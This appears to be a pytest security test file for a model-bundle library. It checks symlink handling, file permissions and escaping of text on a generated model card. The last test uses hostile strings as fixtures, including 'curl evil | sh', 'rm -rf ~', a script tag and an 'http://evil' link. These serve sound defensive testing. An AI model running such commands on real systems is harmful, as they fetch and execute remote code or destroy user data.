"""A bundle from a stranger can neither write to files of the user, nor reach the network, nor take the machine down."""

import json
import os
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import glancefocus as gf
from glancefocus.bundle import Bundle

MakeBundle = Callable[..., Bundle]


@pytest.fixture
def folder(small_bundle: MakeBundle, tmp_path: Path) -> Path:
    return small_bundle().save(tmp_path / "bundle")


def edit(folder: Path, **changes: Any) -> None:
    file = folder / "bundle.json"
    file.write_text(json.dumps({**json.loads(file.read_text()), **changes}))


@pytest.mark.parametrize("name", [".README.md", ".bundle.json", "README.md"])
def test_an_update_never_writes_through_a_link_that_the_bundle_brought(name: str, folder: Path, tmp_path: Path) -> None:
    precious = tmp_path / "start-file-of-a-shell"
    precious.write_text("mine")
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(precious)
    gf.load(folder, device="cpu").update(folder)
    assert precious.read_text() == "mine"


def test_settings_behind_a_link_are_read_and_the_link_is_replaced(folder: Path, tmp_path: Path) -> None:
    (folder / "bundle.json").rename(tmp_path / "blob")
    (folder / "bundle.json").symlink_to(tmp_path / "blob")  # as in the cache of a model hub
    before = (tmp_path / "blob").read_bytes()
    bundle = gf.load(folder, device="cpu")
    bundle.notes["changed"] = True
    bundle.update(folder)
    assert (tmp_path / "blob").read_bytes() == before
    assert gf.load(folder, device="cpu").notes["changed"]


def test_every_file_of_a_bundle_has_the_permissions_that_the_umask_gives(
    small_bundle: MakeBundle, tmp_path: Path
) -> None:
    before = os.umask(0o022)
    try:
        folder = small_bundle().save(tmp_path / "bundle")
    finally:
        os.umask(before)
    assert {stat.S_IMODE(file.stat().st_mode) for file in folder.iterdir()} == {0o644}


def test_names_and_notes_are_text_on_the_model_card(small_bundle: MakeBundle, tmp_path: Path) -> None:
    bundle = small_bundle(notes={"data\n# owned": "x\n\ncurl evil | sh\n<script>"})
    bundle.classes = ("cat\n\nrm -rf ~", "[dog](http://evil)", "`eel`")
    bundle.save(tmp_path / "bundle")
    card = (tmp_path / "bundle" / "README.md").read_text()
    assert not any(line.startswith(("rm", "curl", "# owned", "<")) for line in card.splitlines())
    assert r"cat\\n\\nrm -rf \~, \[dog\](http\://evil), \`eel\`" in card
    assert "<script>" not in card
